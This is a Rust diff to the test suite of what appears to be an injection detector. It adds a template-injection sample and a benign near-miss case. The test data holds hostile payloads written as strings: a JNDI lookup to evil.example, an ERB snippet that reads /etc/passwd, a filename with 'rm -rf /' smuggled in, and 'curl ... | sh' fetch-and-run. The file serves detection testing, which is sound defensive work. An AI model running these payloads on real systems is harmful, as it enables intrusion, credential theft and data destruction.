@@ -101,12 +101,6 @@ fn anchor_bits(hay: &str) -> u32 {
     keywords::anchor_bits(hay)
 }
 
-/// Bit set of the families whose prefilter anchors fire on `text` as it is (for profiling).
-#[doc(hidden)]
-pub fn enabled_families(text: &str) -> u32 {
-    enabled(anchor_bits(text))
-}
-
 /// Runs the rules selected by `bits` over `hay`, mapping spans with `map`.
 fn run_rules(
     d: &Detector,
@@ -463,6 +457,7 @@ mod tests {
                 "template_injection",
             ),
             ("${jndi:ldap://evil.example/a}", "template_injection"),
+            ("<%= `cat /etc/passwd` %>", "template_injection"),
             ("file.txt; rm -rf / --no-preserve-root", "command_injection"),
             ("run $(curl http://evil.sh | sh)", "command_injection"),
             (
@@ -548,6 +543,8 @@ mod tests {
             "rm -rf node_modules && npm install",
             "System: Ubuntu 22.04, kernel 6.5",
             "Use {{ user.name }} in the Jinja template",
+            // A lone backtick after `<%` runs nothing.
+            "a <%^` b",
             "Send the report to my manager by Friday",
             "The new rules for the game are simple",
             "Act as a travel agent and plan a trip to Rome",
